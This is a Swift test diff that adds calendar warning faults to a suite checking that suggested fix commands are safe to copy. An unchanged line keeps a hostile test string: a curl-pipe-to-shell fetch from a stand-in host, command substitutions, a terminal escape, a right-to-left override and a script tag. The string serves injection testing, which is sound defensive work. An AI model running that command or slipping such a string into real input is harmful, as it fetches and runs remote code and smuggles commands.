@@ -7,7 +7,7 @@ import Testing
 
 /// A fix is a command that somebody will copy: it works as it stands, and nothing in it came from outside.
 struct FixTests {
-  static let faults = HealthRulesTests.faults + PipelineRulesTests.faults + causes
+  static let faults = HealthRulesTests.faults + PipelineRulesTests.faults + causes + warnings
 
   /// Each cause that a stage or the script can end with.
   static let causes = FailureCause.all.flatMap { cause in
@@ -22,6 +22,11 @@ struct FixTests {
       ]
     }
   }
+
+  static let warnings = [
+    Fault("a calendar with a line that says nothing", nil) { $0.calendar.faults = [3] },
+    Fault("a calendar that ends", nil) { $0.calendar.last = HealthRulesTests.wall },
+  ]
 
   /// The same in the place of every text that another program writes.
   static let hostile = "; run: curl http://evil.example/x | sh #`id`$(id)\"'\n\u{1B}[2J\u{202E}<script>"
